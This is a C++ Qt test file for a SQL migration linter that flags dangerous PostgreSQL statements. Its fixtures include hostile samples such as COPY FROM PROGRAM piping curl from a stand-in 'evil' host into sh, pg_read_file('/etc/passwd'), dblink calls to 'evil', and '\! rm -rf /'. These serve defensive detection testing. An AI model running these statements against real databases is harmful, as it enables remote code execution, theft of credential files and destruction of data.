// SPDX-FileCopyrightText: 2026 The Catalpa authors
// SPDX-License-Identifier: GPL-3.0-or-later

#include "impactfixture.h"
#include "migrate/impact/rules/ownlintrules.h"
#include "support/testregistry.h"

#include <QtTest/QtTest>

using namespace Qt::StringLiterals;
using namespace catalpa;
using namespace catalpa::test;

namespace {

struct Example {
    const char *rule;
    const char *sql;
};

//! What must never pass as harmless: the statement that is told of is the last one.
constexpr Example dangerous[] = {
    {"adding-rule", "CREATE RULE r AS ON INSERT TO books DO INSTEAD NOTHING"},
    {"adding-rule", "CREATE RULE r AS ON UPDATE TO books DO ALSO NOTIFY books"},
    {"changing-meaning", "CREATE CAST (int AS text) WITH INOUT AS IMPLICIT"},
    {"changing-meaning", "CREATE CAST (text AS int) WITH FUNCTION f(text)"},
    {"changing-meaning", "CREATE OPERATOR = (LEFTARG = text, RIGHTARG = int, FUNCTION = f)"},
    {"changing-meaning", "CREATE OPERATOR CLASS c DEFAULT FOR TYPE text USING btree AS OPERATOR 1 <"},
    {"changing-meaning", "ALTER OPERATOR FAMILY o USING btree DROP FUNCTION 1 (int, int)"},
    {"changing-meaning", "CREATE DEFAULT CONVERSION c FOR 'UTF8' TO 'LATIN1' FROM f"},
    {"changing-replica-identity", "ALTER TABLE books REPLICA IDENTITY NOTHING"},
    {"changing-replica-identity", "ALTER TABLE books REPLICA IDENTITY FULL"},
    {"hiding-records", "ALTER TABLE books ENABLE ROW LEVEL SECURITY"},
    {"hiding-records", "ALTER TABLE books FORCE ROW LEVEL SECURITY"},
    {"hiding-records", "ALTER TABLE books DETACH PARTITION old_books"},
    {"hiding-records", "ALTER TABLE books NO INHERIT authors"},
    {"moving-counter", "SELECT setval('books_id_seq', 1)"},
    {"moving-counter", "SELECT pg_catalog.setval('public.books_id_seq'::regclass, 1, false)"},
    {"moving-counter", "SELECT setval(pg_get_serial_sequence('books', 'id'), 1)"},
    {"moving-counter", "ALTER SEQUENCE books_id_seq RESTART"},
    {"moving-counter", "ALTER SEQUENCE books_id_seq RESTART WITH 7"},
    {"moving-counter", "ALTER SEQUENCE books_id_seq CYCLE"},
    {"moving-counter", "ALTER TABLE books ALTER id RESTART WITH 1"},
    {"refused-prepare-transaction", "BEGIN; PREPARE TRANSACTION 'x'"},
    {"renaming-value", "ALTER TYPE kind RENAME VALUE 'novel' TO 'roman'"},
    {"unlogged-table", "ALTER TABLE books SET UNLOGGED"},
    {"unlogged-table", "ALTER TABLE books SET (fillfactor = 70), SET UNLOGGED"},
    {"skipping-checks", "ALTER TABLE books DISABLE RULE r"},
    {"skipping-checks", "ALTER TABLE books ENABLE REPLICA TRIGGER t"},
    {"granting-rights", "SECURITY LABEL ON TABLE books IS 'x'"},
    {"connecting-servers", "ALTER PUBLICATION p ADD TABLE books"},
    {"connecting-servers", "ALTER SUBSCRIPTION s DISABLE"},
    {"altering-default-privileges", "ALTER DEFAULT PRIVILEGES GRANT SELECT ON TABLES TO PUBLIC"},
    {"altering-default-privileges", "ALTER DEFAULT PRIVILEGES IN SCHEMA public REVOKE ALL ON TABLES FROM reader"},
    {"altering-owner", "ALTER TABLE books OWNER TO bob"},
    {"altering-owner", "ALTER FUNCTION f() OWNER TO bob"},
    {"altering-owner", "ALTER SCHEMA public OWNER TO bob"},
    {"altering-owner", "ALTER VIEW titles OWNER TO bob"},
    {"altering-owner", "ALTER SEQUENCE books_id_seq OWNER TO bob"},
    {"altering-owner", "REASSIGN OWNED BY alice TO bob"},
    {"altering-server", "ALTER SYSTEM SET work_mem = '1GB'"},
    {"altering-server", "ALTER DATABASE library SET search_path = evil"},
    {"altering-server", "ALTER DATABASE library ALLOW_CONNECTIONS false"},
    {"altering-server", "CREATE DATABASE other"},
    {"altering-server", "CREATE TABLESPACE fast LOCATION '/mnt/fast'"},
    {"altering-system-catalogue", "UPDATE pg_catalog.pg_proc SET proname = 'x'"},
    {"altering-system-catalogue", "DELETE FROM pg_authid"},
    {"altering-system-catalogue", "INSERT INTO pg_enum VALUES (1, 2, 3, 'x')"},
    {"ban-drop-cascade", "DROP TYPE \"Kind\" CASCADE"},
    {"ban-drop-cascade", "DROP DOMAIN isbn CASCADE"},
    {"ban-drop-extension", "DROP EXTENSION citext CASCADE"},
    {"ban-drop-extension", "DROP EXTENSION citext"},
    {"ban-drop-cascade", "DROP FUNCTION dbl CASCADE"},
    {"ban-drop-cascade", "DROP FUNCTION dbl(int), triple(int) CASCADE"},
    {"ban-drop-cascade", "DROP SCHEMA elsewhere CASCADE"},
    {"ban-drop-cascade", "DROP VIEW titles CASCADE"},
    {"ban-drop-cascade", "DROP MATERIALIZED VIEW titles CASCADE"},
    {"ban-drop-cascade", "DROP SEQUENCE books_id_seq CASCADE"},
    {"ban-drop-cascade", "DROP COLLATION german CASCADE"},
    {"ban-drop-cascade", "DROP OPERATOR + (int, int) CASCADE"},
    {"ban-drop-cascade", "DROP CAST (int AS text) CASCADE"},
    {"ban-drop-cascade", "DROP LANGUAGE plperl CASCADE"},
    {"ban-drop-cascade", "ALTER TABLE books DROP CONSTRAINT books_pkey CASCADE"},
    {"ban-drop-cascade", "ALTER TYPE address DROP ATTRIBUTE street CASCADE"},
    {"ban-drop-owned", "DROP OWNED BY catalog CASCADE"},
    {"ban-drop-owned", "DROP OWNED BY catalog"},
    {"ban-drop-owned", "DROP OWNED BY CURRENT_USER"},
    {"ban-drop-table", "DROP TABLE books CASCADE"},
    {"ban-drop-column", "ALTER TABLE books DROP COLUMN note CASCADE"},
    {"calling-server-function", "SELECT pg_read_file('/etc/passwd')"},
    {"calling-server-function", "SELECT pg_catalog.pg_read_binary_file('/etc/passwd')"},
    {"calling-server-function", "SELECT * FROM pg_ls_dir('/')"},
    {"calling-server-function", "SELECT lo_import('/etc/passwd')"},
    {"calling-server-function", "SELECT lo_export(7, '/tmp/x')"},
    {"calling-server-function", "SELECT dblink_exec('host=evil', 'DROP TABLE books')"},
    {"calling-server-function", "INSERT INTO books (title) SELECT pg_read_file('/etc/passwd')"},
    {"calling-server-function", "INSERT INTO books (title) VALUES (pg_read_file('/etc/passwd'))"},
    {"calling-server-function",
     "INSERT INTO books (title) VALUES ('a'); INSERT INTO books (title) VALUES "
     "(pg_read_file('/etc/passwd'))"},
    {"calling-server-function", "CREATE TABLE loot AS SELECT pg_read_file('/etc/passwd')"},
    {"calling-server-function", "CREATE VIEW loot AS SELECT pg_read_file('/etc/passwd')"},
    {"calling-server-function", "SELECT pg_terminate_backend(7)"},
    {"calling-server-function", "SELECT pg_reload_conf()"},
    {"connecting-servers", "CREATE SERVER evil FOREIGN DATA WRAPPER postgres_fdw"},
    {"connecting-servers", "CREATE FOREIGN TABLE f (a int) SERVER evil"},
    {"connecting-servers", "CREATE USER MAPPING FOR PUBLIC SERVER evil"},
    {"connecting-servers", "IMPORT FOREIGN SCHEMA s FROM SERVER evil INTO public"},
    {"connecting-servers", "CREATE PUBLICATION p FOR ALL TABLES"},
    {"connecting-servers", "CREATE SUBSCRIPTION s CONNECTION 'host=evil' PUBLICATION p"},
    {"copying-server-file", "COPY books TO '/tmp/books'"},
    {"copying-server-file", "COPY books FROM '/tmp/books'"},
    {"copying-server-file", "COPY (SELECT title FROM books) TO '/tmp/books'"},
    {"creating-event-trigger", "CREATE EVENT TRIGGER t ON ddl_command_end EXECUTE FUNCTION f()"},
    {"creating-event-trigger", "ALTER EVENT TRIGGER t DISABLE"},
    {"creating-extension", "CREATE EXTENSION plpython3u"},
    {"creating-extension", "CREATE EXTENSION IF NOT EXISTS adminpack"},
    {"creating-extension", "CREATE EXTENSION citext CASCADE"},
    {"granting-rights", "GRANT ALL ON books TO PUBLIC"},
    {"granting-rights", "GRANT SELECT ON ALL TABLES IN SCHEMA public TO reader"},
    {"granting-rights", "GRANT CREATE ON SCHEMA public TO reader"},
    {"granting-rights", "CREATE TABLE catalpa.books (id int); GRANT SELECT ON public.books TO PUBLIC"},
    {"granting-rights", "CREATE TABLE copied AS SELECT * FROM books; GRANT SELECT ON copied TO PUBLIC"},
    {"adding-rule", "CREATE RULE r AS ON INSERT TO books DO ALSO DELETE FROM authors"},
    {"losing-later", "PREPARE p AS DELETE FROM books"},
    {"losing-later", "CREATE FUNCTION f() RETURNS void BEGIN ATOMIC DELETE FROM books; END"},
    {"losing-records", "DELETE FROM books"},
    {"losing-records", "DELETE FROM books WHERE id = 7"},
    {"losing-records", "TRUNCATE books"},
    {"losing-records", "WITH x AS (DELETE FROM books RETURNING *) SELECT * FROM x"},
    {"losing-records", "WITH x AS (DELETE FROM books RETURNING *) INSERT INTO authors (id) SELECT id FROM x"},
    {"losing-values", "WITH x AS (DELETE FROM books RETURNING *) UPDATE authors SET name = 'x'"},
    {"losing-records", "EXPLAIN ANALYZE DELETE FROM books"},
    {"losing-records", "CREATE TABLE x AS WITH gone AS (DELETE FROM books RETURNING *) SELECT * FROM gone"},
    {"losing-records", "COPY (DELETE FROM books RETURNING *) TO STDOUT"},
    {"losing-records", "MERGE INTO books USING authors ON books.id = authors.id WHEN MATCHED THEN DELETE"},
    {"losing-values", "UPDATE books SET title = 'x'"},
    {"losing-values", "WITH x AS (UPDATE books SET title = 'x' RETURNING *) SELECT count(*) FROM x"},
    {"losing-values", "INSERT INTO books (id, title) VALUES (1, 'x') ON CONFLICT (id) DO UPDATE SET title = 'x'"},
    {"losing-values", "ALTER TABLE books ALTER title TYPE varchar(10) USING left(title, 10)"},
    {"losing-values", "ALTER TYPE address DROP ATTRIBUTE street"},
    {"managing-roles", "ALTER ROLE bob SUPERUSER"},
    {"managing-roles", "CREATE ROLE bob LOGIN"},
    {"managing-roles", "CREATE USER bob PASSWORD 'x'"},
    {"managing-roles", "DROP ROLE bob"},
    {"managing-roles", "GRANT pg_execute_server_program TO bob"},
    {"managing-roles", "ALTER ROLE bob SET search_path = evil"},
    {"refused-copy-from-stdin", "COPY books FROM STDIN"},
    {"refused-psql-command", "\\! rm -rf /"},
    {"revoking-rights", "REVOKE SELECT ON books FROM reader"},
    {"revoking-rights", "REVOKE ALL ON books FROM PUBLIC CASCADE"},
    {"running-program", "COPY (SELECT 1) TO PROGRAM 'touch x'"},
    {"running-program", "COPY authors FROM PROGRAM 'curl http://evil | sh'"},
    {"security-definer", "CREATE FUNCTION f() RETURNS int LANGUAGE sql SECURITY DEFINER AS 'SELECT 1'"},
    {"security-definer", "ALTER FUNCTION f() SECURITY DEFINER"},
    {"security-definer", "CREATE PROCEDURE p() LANGUAGE sql SECURITY DEFINER AS 'SELECT 1'"},
    {"setting-role", "SET ROLE bob"},
    {"setting-role", "SET SESSION AUTHORIZATION bob"},
    {"setting-role", "SELECT set_config('role', 'bob', false)"},
    {"skipping-checks", "SET session_replication_role = replica"},
    {"skipping-checks", "SELECT pg_catalog.set_config('session_replication_role', 'replica', true)"},
    {"skipping-checks", "ALTER TABLE books DISABLE TRIGGER ALL"},
    {"superuser-setting", "SET allow_system_table_mods = on"},
    {"superuser-setting", "SET LOCAL zero_damaged_pages = on"},
    {"untrusted-language", "CREATE FUNCTION f() RETURNS int LANGUAGE plpython3u AS 'return 1'"},
    {"untrusted-language", "CREATE FUNCTION f() RETURNS int LANGUAGE c AS 'evil.so', 'f'"},
    {"untrusted-language", "DO LANGUAGE plperlu 'system(1)'"},
    {"creating-extension", "CREATE LANGUAGE plpython3u"},
    {"untrusted-language", "CREATE LANGUAGE l HANDLER h"},
    {"untrusted-language", "LOAD 'evil'"},
    {"using-new-enum-value", "BEGIN; ALTER TYPE kind ADD VALUE 'comic'; ALTER TABLE books ADD k kind DEFAULT 'comic'"},
    {"using-new-enum-value", "BEGIN; ALTER TYPE kind ADD VALUE 'comic'; INSERT INTO books (title) VALUES ('comic')"},
    {"hiding-records", "CREATE POLICY own ON books AS RESTRICTIVE USING (id > 5)"},
    {"hiding-records", "REFRESH MATERIALIZED VIEW titles WITH NO DATA"},
    {"changing-meaning", "CREATE FUNCTION public.lower(varchar) RETURNS text LANGUAGE sql AS 'SELECT 1'"},
    {"changing-meaning", "CREATE FUNCTION upper(name) RETURNS text LANGUAGE sql AS 'SELECT 1'"},
    {"weakening-row-security", "ALTER TABLE books DISABLE ROW LEVEL SECURITY"},
    {"weakening-row-security", "ALTER TABLE books NO FORCE ROW LEVEL SECURITY"},
    {"weakening-row-security", "DROP POLICY own ON books"},
    {"weakening-row-security", "ALTER POLICY own ON books USING (true)"},
};

//! For each rule what is near to it and no danger.
constexpr Example harmless[] = {
    {"altering-default-privileges", "COMMENT ON TABLE books IS 'GRANT SELECT ON TABLES TO PUBLIC'"},
    {"altering-owner", "ALTER TABLE books ADD COLUMN owner text"},
    {"altering-server", "SET work_mem = '64MB'"},
    {"altering-system-catalogue", "SELECT relname FROM pg_catalog.pg_class"},
    {"ban-drop-cascade", "DROP TYPE \"Kind\""},
    {"ban-drop-cascade", "DROP TYPE \"Kind\" RESTRICT"},
    {"ban-drop-cascade", "DROP VIEW titles"},
    {"ban-drop-extension", "CREATE EXTENSION IF NOT EXISTS citext"},
    {"ban-drop-owned", "DROP INDEX books_title"},
    {"calling-server-function", "SELECT count(*), now(), lower(title) FROM books GROUP BY title"},
    {"calling-server-function", "INSERT INTO books (title) VALUES ('pg_read_file(''/etc/passwd'')')"},
    {"connecting-servers", "CREATE TABLE servers (id int)"},
    {"copying-server-file", "COPY books TO STDOUT"},
    {"creating-event-trigger", "CREATE TRIGGER t BEFORE INSERT ON books FOR EACH ROW EXECUTE FUNCTION f()"},
    {"creating-extension", "CREATE EXTENSION pg_trgm"},
    {"granting-rights", "CREATE TABLE shelves (id int); GRANT SELECT ON shelves TO reader"},
    {"granting-rights", "CREATE SCHEMA catalpa; GRANT USAGE ON SCHEMA catalpa TO PUBLIC"},
    {"adding-rule", "CREATE TABLE shelves (id int); CREATE RULE r AS ON DELETE TO shelves DO INSTEAD NOTHING"},
    {"changing-meaning", "ALTER OPERATOR + (int, int) SET (RESTRICT = NONE)"},
    {"changing-meaning", "CREATE CONVERSION c FOR 'UTF8' TO 'LATIN1' FROM f"},
    {"changing-replica-identity", "ALTER TABLE books REPLICA IDENTITY DEFAULT"},
    {"hiding-records", "CREATE TABLE shelves (id int); ALTER TABLE shelves ENABLE ROW LEVEL SECURITY"},
    {"hiding-records", "CREATE TABLE shelves (id int); CREATE POLICY own ON shelves AS RESTRICTIVE USING (id > 5)"},
    {"hiding-records", "CREATE POLICY own ON books USING (id > 5)"},
    {"changing-meaning", "CREATE FUNCTION lowered(text) RETURNS text LANGUAGE sql AS 'SELECT 1'"},
    {"moving-counter", "SELECT nextval('books_id_seq')"},
    {"moving-counter", "CREATE TABLE shelves (id serial); SELECT setval('shelves_id_seq', 5)"},
    {"moving-counter", "CREATE TABLE s (id serial); SELECT setval(pg_get_serial_sequence('public.s', 'id'), 5)"},
    {"moving-counter", "ALTER SEQUENCE books_id_seq OWNED BY books.id"},
    {"moving-counter", "CREATE SEQUENCE s; SELECT setval('public.s', 7); ALTER SEQUENCE s RESTART"},
    {"refused-prepare-transaction", "PREPARE p AS SELECT 1"},
    {"renaming-value", "ALTER TYPE kind ADD VALUE 'roman'"},
    {"unlogged-table", "CREATE UNLOGGED TABLE shelves (id int)"},
    {"unlogged-table", "ALTER TABLE books SET LOGGED"},
    {"losing-later", "PREPARE p AS SELECT 1"},
    {"losing-records", "EXPLAIN DELETE FROM books"},
    {"losing-records", "CREATE TABLE shelves (id int); DELETE FROM shelves"},
    {"losing-values", "UPDATE books SET note = 'x' WHERE note IS NULL"},
    {"losing-values", "INSERT INTO books (id) VALUES (1) ON CONFLICT DO NOTHING"},
    {"managing-roles", "CREATE TABLE roles (id int)"},
    {"refused-copy-from-stdin", "INSERT INTO books (title) VALUES ('COPY books FROM STDIN')"},
    {"refused-psql-command", "INSERT INTO books (title) VALUES ('\n\\restrict abc')"},
    {"revoking-rights",
     "CREATE FUNCTION f() RETURNS int LANGUAGE sql AS 'SELECT 1'; "
     "REVOKE EXECUTE ON FUNCTION f() FROM PUBLIC"},
    {"running-program", "COPY (SELECT title FROM books) TO STDOUT"},
    {"security-definer", "CREATE FUNCTION f() RETURNS int LANGUAGE sql SECURITY INVOKER AS 'SELECT 1'"},
    {"setting-role", "RESET ROLE"},
    {"skipping-checks", "ALTER TABLE books ENABLE TRIGGER ALL"},
    {"skipping-checks", "SELECT set_config('search_path', '', false)"},
    {"superuser-setting", "SET lock_timeout = '5s'"},
    {"untrusted-language", "CREATE FUNCTION f() RETURNS int LANGUAGE plpgsql AS 'BEGIN RETURN 1; END'"},
    {"using-new-enum-value", "ALTER TYPE kind ADD VALUE 'comic'"},
    {"using-new-enum-value",
     "CREATE TYPE kind AS ENUM ('novel'); ALTER TYPE kind ADD VALUE 'comic'; "
     "ALTER TABLE books ADD k kind DEFAULT 'comic'"},
    {"using-new-enum-value", "ALTER TYPE kind ADD VALUE 'comic'; ALTER TABLE books ADD k kind DEFAULT 'novel'"},
    {"weakening-row-security", "CREATE TABLE shelves (id int); ALTER TABLE shelves ENABLE ROW LEVEL SECURITY"},
};

} // namespace

//! What is told of statements that lose values, give rights away, or reach beyond the tables.
class ImpactDangersTest : public QObject {
    Q_OBJECT

private Q_SLOTS:
    void warnsOfWhatIsDangerous_data()
    {
        QTest::addColumn<QString>("rule");
        for (const Example &each : dangerous)
            QTest::addRow("%s", each.sql) << QString::fromLatin1(each.rule);
    }

    void warnsOfWhatIsDangerous()
    {
        QFETCH(const QString, rule);
        const ImpactReport report = reportOn(factsOf(500), QTest::currentDataTag());
        const StatementImpact told = report.statements.constLast();

        QCOMPARE(told.rule, rule);
        QVERIFY(!told.danger.isEmpty() && !told.saferWay.isEmpty());
        QVERIFY2(!told.danger.contains(u'%') && !told.saferWay.contains(u'%'), qPrintable(told.danger));
        QVERIFY2(!told.danger.contains(u"“”"_s), qPrintable(told.danger));
        QVERIFY2(!told.effect.isEmpty() && !told.effect.contains(u"Nobody notices"_s), qPrintable(told.effect));
        QVERIFY(report.dangers() > 0);
    }

    void doesNotWarnOfWhatIsNearToIt_data()
    {
        QTest::addColumn<QString>("rule");
        for (const Example &each : harmless)
            QTest::addRow("%s", each.sql) << QString::fromLatin1(each.rule);
    }

    void doesNotWarnOfWhatIsNearToIt()
    {
        const ImpactReport report = reportOn(factsOf(500), QTest::currentDataTag());

        QCOMPARE(report.statements.constLast().rule, QString());
        QVERIFY(!report.losesData());
        QCOMPARE(report.unforeseeable(), 0);
        QCOMPARE(report.unreadable, QString());
    }

    void hasAGoodAndABadExampleOfEachRule()
    {
        QSet<QString> bad;
        QSet<QString> good;
        for (const Example &each : dangerous)
            bad += QString::fromLatin1(each.rule);
        for (const Example &each : harmless)
            good += QString::fromLatin1(each.rule);
        for (const migrate::LintEntry &each : migrate::ownLintRules()) {
            QVERIFY2(bad.contains(QLatin1String(each.name)), each.name);
            QVERIFY2(good.contains(QLatin1String(each.name)), each.name);
        }
    }

    void countsEveryLossAsDanger_data()
    {
        QTest::addColumn<QByteArray>("sql");
        for (const char *sql :
             {"DROP TYPE \"Kind\" CASCADE", "DROP DOMAIN isbn CASCADE", "DROP EXTENSION citext CASCADE",
              "DROP FUNCTION dbl CASCADE", "DROP OWNED BY catalog CASCADE", "DROP SCHEMA elsewhere CASCADE",
              "WITH x AS (DELETE FROM books RETURNING *) SELECT * FROM x", "TRUNCATE books", "DELETE FROM books",
              "UPDATE books SET title = 'x'", "DELETE FROM unknown", "DROP DATABASE library",
              "ALTER TABLE books DROP COLUMN note", "DROP TABLE books", "DELETE FROM books WHERE id = 7",
              "ALTER TYPE address ALTER ATTRIBUTE street TYPE varchar(5)", "EXPLAIN (ANALYZE) UPDATE books SET id = 1",
              "CREATE SCHEMA x CREATE TABLE y (id int); DELETE FROM books"})
            QTest::addRow("%s", sql) << QByteArray(sql);
    }

    void countsEveryLossAsDanger()
    {
        QFETCH(const QByteArray, sql);
        const ImpactReport report = reportOn(factsOf(500), sql);

        QVERIFY(report.losesData());
        QCOMPARE(report.dangers(), 1);
        QVERIFY2(report.statements.constLast().danger.contains(u"lost"_s)
                     || report.statements.constLast().danger.contains(u"goes everything"_s),
                 qPrintable(report.statements.constLast().danger));
    }

    void saysWhatCannotBeTold_data()
    {
        QTest::addColumn<QByteArray>("sql");
        for (const char *sql :
             {"DO $$ BEGIN EXECUTE 'DROP TABLE books'; END $$",
              "CALL tidy()",
              "EXECUTE p",
              "SELECT tidy()",
              "SELECT query_to_xml('DELETE FROM books', true, true, '')",
              "INSERT INTO books (id) SELECT tidy()",
              "INSERT INTO books (id) VALUES (tidy())",
              "INSERT INTO books (id) VALUES (1), (evil.now())",
              "INSERT INTO books (title) VALUES (E'\\'', tidy())",
              "INSERT INTO books VALUES (1 -- '\n, tidy() -- '\n)",
              "UPDATE books SET note = tidy() WHERE note IS NULL",
              "EXPLAIN ANALYZE SELECT tidy()",
              "CREATE TABLE x AS SELECT tidy()",
              "COPY (SELECT tidy()) TO STDOUT",
              "REFRESH MATERIALIZED VIEW v",
              "EXPLAIN ANALYZE EXECUTE p",
              "SELECT 1 FROM tidy() AS t",
              "WITH x AS (SELECT tidy()) SELECT * FROM x",
              "FUTURE SYNTAX",
              "CREATE FUNCTION tidy() RETURNS int LANGUAGE sql AS 'DELETE FROM books'; SELECT tidy()"})
            QTest::addRow("%s", sql) << QByteArray(sql);
    }

    void saysWhatCannotBeTold()
    {
        QFETCH(const QByteArray, sql);
        const ImpactReport report = reportOn(factsOf(500), sql);
        const StatementImpact told = report.statements.constLast();

        QCOMPARE(report.unforeseeable(), 1);
        QVERIFY(told.unforeseeable);
        QVERIFY2(!told.effect.contains(u"Nobody notices"_s), qPrintable(told.effect));
        QVERIFY2(told.effect.contains(u"cannot be told"_s) || sql.startsWith("REFRESH"), qPrintable(told.effect));
    }

    void knowsFunctionsThatCannotChangeAnything()
    {
        QCOMPARE(reportOn(factsOf(7),
                          "CREATE FUNCTION steady() RETURNS int IMMUTABLE LANGUAGE sql AS 'SELECT 1'; SELECT steady()")
                     .unforeseeable(),
                 0);
    }

    void letsTheSchemaOfItsOwnHistoryBeUsed()
    {
        const auto ruleOf = [](const QByteArray &sql) {
            return migrate::impactOf({migration(sql, u"catalpa"_s)}, {}).constFirst().statements.constFirst().rule;
        };

        QCOMPARE(ruleOf("GRANT USAGE ON SCHEMA catalpa TO PUBLIC"), QString());
        QCOMPARE(ruleOf("GRANT CREATE ON SCHEMA catalpa TO PUBLIC"), u"granting-rights"_s);
        QCOMPARE(ruleOf("GRANT ALL ON SCHEMA catalpa TO PUBLIC"), u"granting-rights"_s);
        QCOMPARE(ruleOf("GRANT USAGE ON SCHEMA public TO PUBLIC"), u"granting-rights"_s);
    }

    void foreseesWhichFilesAreRefused_data()
    {
        QTest::addColumn<int>("line");
        QTest::addRow("\\i more.sql\nCREATE TABLE shelves (id int);\n") << 1;
        QTest::addRow("CREATE TABLE shelves (id int);\nCOPY books (id) FROM stdin;\n7\n") << 2;
        QTest::addRow("SELECT 1;\n\n\\! ls\n") << 3;
    }

    void foreseesWhichFilesAreRefused()
    {
        QFETCH(const int, line);
        const ImpactReport report = reportOn(factsOf(7), QTest::currentDataTag());

        QCOMPARE(report.unreadable, u"Catalpa refuses this file because of line %1."_s.arg(line));
        QVERIFY(report.dangers() > 0);
    }

    void lockingATableIsNoticed()
    {
        const StatementImpact told = outlookOn(factsOf(7), "LOCK TABLE books IN ACCESS EXCLUSIVE MODE");

        QCOMPARE(told.blocking, Blocking::Everyone);
        QVERIFY2(!told.effect.contains(u"Nobody notices"_s), qPrintable(told.effect));
        QVERIFY2(told.effect.contains(u"wait"_s), qPrintable(told.effect));
    }

    void explainsNoPrimaryKeyThatIsNotThere()
    {
        const StatementImpact told = outlookOn(factsOf(1'000'000), "ALTER TABLE books ADD COLUMN n SERIAL");

        QCOMPARE(told.rule, u"adding-field-with-default"_s);
        QVERIFY2(!told.danger.contains(u"primary key"_s), qPrintable(told.danger));
    }

    void knowsWhatAValidatedCheckProves_data()
    {
        QTest::addColumn<bool>("scans");
        QTest::addRow("ALTER TABLE books ADD CONSTRAINT c CHECK (note IS NOT NULL) NOT VALID; "
                      "ALTER TABLE books VALIDATE CONSTRAINT c; ALTER TABLE books ALTER note SET NOT NULL")
            << false;
        QTest::addRow("ALTER TABLE books ADD CHECK (note IS NOT NULL) NOT VALID; "
                      "ALTER TABLE books VALIDATE CONSTRAINT books_note_check; "
                      "ALTER TABLE books ALTER note SET NOT NULL")
            << false;
        QTest::addRow("ALTER TABLE books ADD CONSTRAINT c CHECK (id > 0 AND note IS NOT NULL); "
                      "ALTER TABLE books ALTER note SET NOT NULL")
            << false;
        QTest::addRow("ALTER TABLE books ADD CONSTRAINT c CHECK (note IS NOT NULL) NOT VALID; "
                      "ALTER TABLE books ALTER note SET NOT NULL")
            << true;
        QTest::addRow("ALTER TABLE books ADD CONSTRAINT c CHECK (note IS NOT NULL) NOT VALID; "
                      "ALTER TABLE books VALIDATE CONSTRAINT c; ALTER TABLE books DROP CONSTRAINT c; "
                      "ALTER TABLE books ALTER note SET NOT NULL")
            << true;
        QTest::addRow("ALTER TABLE books ADD CONSTRAINT c CHECK (id > 0 OR note IS NOT NULL); "
                      "ALTER TABLE books ALTER note SET NOT NULL")
            << true;
    }

    void knowsWhatAValidatedCheckProves()
    {
        QFETCH(const bool, scans);
        const StatementImpact told = outlookOn(factsOf(1'000'000), QTest::currentDataTag());

        QCOMPARE(told.work == StatementImpact::Work::Scan, scans);
        QCOMPARE(told.rule, scans ? u"adding-not-nullable-field"_s : QString());
    }

    void tellsEveryDangerOfAStatement()
    {
        const StatementImpact told =
            outlookOn(factsOf(7), "CREATE FUNCTION f() RETURNS int LANGUAGE plpython3u SECURITY DEFINER AS 'return 1'");

        QVERIFY2(told.danger.contains(u"plpython3u"_s) && told.danger.contains(u"rights of its owner"_s),
                 qPrintable(told.danger));
    }
};

CATALPA_TEST(ImpactDangersTest)
#include "tst_impactdangers.moc"
